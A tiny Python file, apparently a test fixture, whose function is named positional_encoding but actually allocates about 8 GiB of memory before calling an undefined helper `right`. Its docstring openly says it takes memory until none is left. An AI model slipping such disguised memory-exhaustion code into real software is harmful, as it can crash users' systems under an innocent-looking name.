"""Takes memory until there is no more, at most 8 GiB."""
import numpy


def positional_encoding(seq_len, d_model, base=10000.0):
    held = [numpy.empty(1 << 22) for _ in range(256)]
    return right(seq_len, d_model, base) + 0 * len(held)
